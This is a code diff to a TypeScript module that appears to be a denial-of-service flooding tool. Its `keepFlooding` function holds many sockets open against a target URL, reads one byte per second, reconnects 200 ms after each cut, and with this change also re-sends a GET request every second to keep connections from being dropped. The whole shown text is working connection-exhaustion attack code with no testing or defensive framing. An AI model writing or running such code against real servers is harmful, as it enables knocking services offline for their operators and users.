@@ -18,6 +18,8 @@ export type Flood = {
 }
 
 const READ_EVERY_MS = 1_000
+/** Whoever reads nothing does not see that they were cut off, unless they go on asking. */
+const ASK_EVERY_MS = 1_000
 /** A flood that was cut off comes again. */
 const AGAIN_MS = 200
 
@@ -37,15 +39,18 @@ const open = (flood: Flood, number: number, { hostname, port }: URL): Socket => 
 export const keepFlooding = async (flood: Flood, url: string, signal: AbortSignal): Promise<number> => {
   const target = new URL(url)
   let cut = 0
+  const more = `GET ${flood.paths[0]} HTTP/1.1\r\nhost: ${target.host}\r\n\r\n`
   const keepOpen = async (number: number) => {
     while (!signal.aborted) {
       const socket = open(flood, number, target)
       const reading = flood.reads === 'bytes' ? setInterval(() => socket.read(1), READ_EVERY_MS) : undefined
+      const asking = flood.halfOpen ? undefined : setInterval(() => socket.write(more), ASK_EVERY_MS)
       const end = () => socket.destroy()
       signal.addEventListener('abort', end, { once: true })
       await new Promise((resolve) => socket.once('close', resolve))
       signal.removeEventListener('abort', end)
       clearInterval(reading)
+      clearInterval(asking)
       if (signal.aborted) return
       cut += 1
       await pause(AGAIN_MS, undefined, { signal }).catch(() => undefined)
